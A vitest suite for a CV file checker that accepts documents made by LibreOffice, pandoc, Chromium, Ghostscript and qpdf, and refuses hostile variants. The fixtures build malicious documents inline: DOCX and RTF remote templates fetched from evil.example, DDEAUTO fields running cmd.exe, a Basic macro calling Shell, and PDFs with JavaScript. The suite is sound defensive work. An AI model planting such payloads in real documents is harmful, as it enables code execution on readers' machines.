/**
 * The CV check on documents that real tools wrote (see ../helpers/real-documents.ts):
 * each is accepted, a permissions-only PDF too, and each hostile variant of them is refused
 * with its code. The tools are Debian packages that .ci/run installs; without them the
 * suite is skipped locally and fails under CI.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sniffCv } from '../../src/check/sniff';
import { rc4 } from '../../src/check/pdf-crypt';
import { editPackage, makeRealDocuments, missingTools, type RealDocuments } from '../helpers/real-documents';

const missing = await missingTools();
const ci = process.env.CI === 'true';
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cv-real-'));
let docs: RealDocuments = {};

test('RC4 matches its published test vector', () => {
  // "Key" / "Plaintext" from the RC4 article's test vectors (also in RFC 6229's spirit).
  expect(rc4(Buffer.from('Key'), Buffer.from('Plaintext')).toString('hex')).toBe('bbf316e8d940af0ad3');
});

describe.skipIf(missing.length > 0 && !ci)(
  `documents made by real tools${missing.length ? ` (missing: ${missing.join(', ')})` : ''}`,
  () => {
    beforeAll(async () => {
      expect(missing, 'tools .ci/run installs').toEqual([]);
      docs = await makeRealDocuments(dir);
    }, 240_000);
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

    const accepted = [
      ['libreoffice.docx', 'docx'],
      ['libreoffice.doc', 'doc'],
      ['libreoffice.odt', 'odt'],
      ['libreoffice.rtf', 'rtf'],
      ['libreoffice.pdf', 'pdf'],
      ['pandoc.docx', 'docx'],
      ['pandoc.odt', 'odt'],
      ['pandoc.rtf', 'rtf'],
      ['chromium.pdf', 'pdf'],
      ['ghostscript-pdfa.pdf', 'pdf'],
      ['qpdf-r2-rc4-permissions.pdf', 'pdf'],
      ['qpdf-r3-rc4-permissions.pdf', 'pdf'],
      ['qpdf-r4-aes-permissions.pdf', 'pdf'],
      ['qpdf-r6-permissions.pdf', 'pdf']
    ] as const;
    test.each(accepted)('%s is accepted', async (name, format) => {
      expect(docs[name], `${name} was generated`).toBeDefined();
      expect(await sniffCv(docs[name]!)).toEqual({ ok: true, format });
    });

    const refused: [string, () => Promise<Buffer>, string, RegExp][] = [
      ['a user password (qpdf)', async () => docs['qpdf-user-password.pdf']!, 'file_encrypted', /needs a user password/],
      ['an attachment (qpdf --add-attachment)', async () => docs['qpdf-attachment.pdf']!, 'file_unsafe_content', /EmbeddedFile|EF/],
      ['JavaScript on opening', async () => docs['qdf-javascript.pdf']!, 'file_unsafe_content', /JavaScript|JS/],
      [
        'JavaScript under permissions-only encryption',
        async () => docs['qdf-javascript-permissions.pdf']!,
        'file_unsafe_content',
        /JavaScript|JS/
      ],
      ['a file: link (LibreOffice PDF)', async () => docs['libreoffice-file-link.pdf']!, 'file_unsafe_content', /link to|Launch|GoToR/],
      ['a file: link (LibreOffice DOCX)', async () => docs['libreoffice-file-link.docx']!, 'file_unsafe_content', /hyperlink relationship/],
      ['a file: link (LibreOffice RTF)', async () => docs['libreoffice-file-link.rtf']!, 'file_unsafe_content', /HYPERLINK field/],
      ['a file: link (LibreOffice DOC)', async () => docs['libreoffice-file-link.doc']!, 'file_unsafe_content', /HYPERLINK field/],
      ['a file: link (LibreOffice ODT)', async () => docs['libreoffice-file-link.odt']!, 'file_unsafe_content', /link to/],
      [
        'a macro (LibreOffice DOCX + vbaProject.bin)',
        () =>
          editPackage(docs['libreoffice.docx']!, (entries) => [
            ...entries.map((e) =>
              e.name === '[Content_Types].xml'
                ? {
                    ...e,
                    data: Buffer.from(
                      e.data
                        .toString('utf8')
                        .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
                    )
                  }
                : e
            ),
            { name: 'word/vbaProject.bin', data: Buffer.alloc(512, 1) }
          ]),
        'file_macros',
        /vbaProject/
      ],
      [
        'a macro (LibreOffice ODT + Basic library)',
        () =>
          editPackage(docs['libreoffice.odt']!, (entries) => [
            ...entries.map((e) => (e.name === 'mimetype' ? { ...e, method: 0 as const } : e)),
            {
              name: 'Basic/Standard/Module1.xml',
              data: Buffer.from('<script:module script:name="Module1">Sub Main\nShell "calc"\nEnd Sub</script:module>')
            }
          ]),
        'file_macros',
        /Basic\//
      ],
      [
        'a remote template (LibreOffice DOCX)',
        () =>
          editPackage(docs['libreoffice.docx']!, (entries) => [
            ...entries.filter((e) => e.name !== 'word/_rels/settings.xml.rels'),
            {
              name: 'word/_rels/settings.xml.rels',
              data: Buffer.from(
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
              )
            }
          ]),
        'file_unsafe_content',
        /attachedtemplate/
      ],
      [
        'a remote template (LibreOffice RTF)',
        async () =>
          Buffer.from(
            docs['libreoffice.rtf']!.toString('latin1').replace(/\{\\rtf1/, '{\\rtf1{\\*\\template https://evil.example/t.dot}'),
            'latin1'
          ),
        'file_unsafe_content',
        /template/
      ],
      [
        'a DDE field (LibreOffice DOCX)',
        () =>
          editPackage(docs['libreoffice.docx']!, (entries) =>
            entries.map((e) =>
              e.name === 'word/document.xml'
                ? {
                    ...e,
                    data: Buffer.from(
                      e.data
                        .toString('utf8')
                        .replace(
                          /<w:body>/,
                          '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                        )
                    )
                  }
                : e
            )
          ),
        'file_unsafe_content',
        /DDEAUTO/
      ],
      [
        'a DDE field (LibreOffice RTF)',
        async () => {
          const rtf = docs['libreoffice.rtf']!.toString('latin1');
          const end = rtf.lastIndexOf('}');
          return Buffer.from(
            `${rtf.slice(0, end)}{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}{\\fldrslt x}}${rtf.slice(end)}`,
            'latin1'
          );
        },
        'file_unsafe_content',
        /DDEAUTO/
      ]
    ];
    test.each(refused)('refused: %s', async (_, make, code, reason) => {
      const result = await sniffCv(await make());
      expect(result).toMatchObject({ ok: false, code });
      if (!result.ok) expect(result.reason).toMatch(reason);
    });
  }
);
